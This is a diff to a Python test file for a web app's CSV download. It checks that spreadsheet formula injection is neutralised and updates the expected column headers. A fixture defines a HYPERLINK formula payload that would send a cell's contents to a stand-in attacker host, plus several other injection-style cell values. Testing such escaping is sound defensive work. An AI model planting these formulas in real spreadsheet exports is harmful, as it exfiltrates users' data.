@@ -20,7 +20,7 @@ from app.spreadsheet import RUNS, Cell, csv_text, unguard
 from db.embedded.servers import Endpoints
 from jobs.ingest import Ingest, Report
 from pages.items import as_csv, read
-from tests.commands.test_cli import run
+from tests.commands.support import run
 from tests.security.conftest import CALLBACKS, token_of
 
 EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"★ price")'
@@ -72,7 +72,10 @@ def test_the_items_page_downloads_names_that_do_not_run(client: FlaskClient, evi
         "output": "items-download.data",
         "outputs": {"id": "items-download", "property": "data"},
         "inputs": [{"id": "items-csv", "property": "n_clicks", "value": 1}],
-        "state": [{"id": "items-query", "property": "data", "value": read({})}],
+        "state": [
+            {"id": "items-query", "property": "data", "value": read({})},
+            {"id": "items-columns", "property": "value", "value": ["price"]},
+        ],
         "changedPropIds": ["items-csv.n_clicks"],
     }
     reply = client.post(CALLBACKS, json=call, headers={"X-CSRFToken": token_of(client)})
@@ -80,13 +83,13 @@ def test_the_items_page_downloads_names_that_do_not_run(client: FlaskClient, evi
     text: str = reply.get_json()["response"]["items-download"]["data"]["content"]
     assert text.startswith("\ufeff"), "spreadsheets know UTF-8 by its mark"
     (row,) = records(text.removeprefix("\ufeff"))
-    assert (row["name"], row["price"]) == (f"'{EVIL}", "10.0")
+    assert row == {"Item": f"'{EVIL}", "Price": "10.0", "Currency": "USD"}
 
 
 def test_negative_figures_stay_figures() -> None:
     row: dict[str, Any] = defaultdict(lambda: None, name="-5", percent_change=-0.25)
-    (line,) = records(as_csv([row], "24h").removeprefix("\ufeff"))
-    assert (line["name"], line["percent_change_24h"]) == ("'-5", "-0.25")
+    (line,) = records(as_csv([row], ["percent_change"], "24h").removeprefix("\ufeff"))
+    assert (line["Item"], line["Change 24h (%)"]) == ("'-5", "-0.25")
 
 
 cells = st.none() | st.text() | st.sampled_from([EVIL, "-2", "\uff1d1", "a,b", 'a"b', "a;=b", "'", "''="])
